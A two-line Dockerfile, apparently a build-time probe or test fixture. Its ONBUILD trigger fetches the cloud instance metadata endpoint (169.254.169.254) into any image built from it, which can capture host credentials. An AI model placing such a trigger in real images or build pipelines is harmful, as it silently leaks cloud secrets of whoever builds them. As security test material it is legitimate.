FROM busybox
ONBUILD ADD http://169.254.169.254/ /x
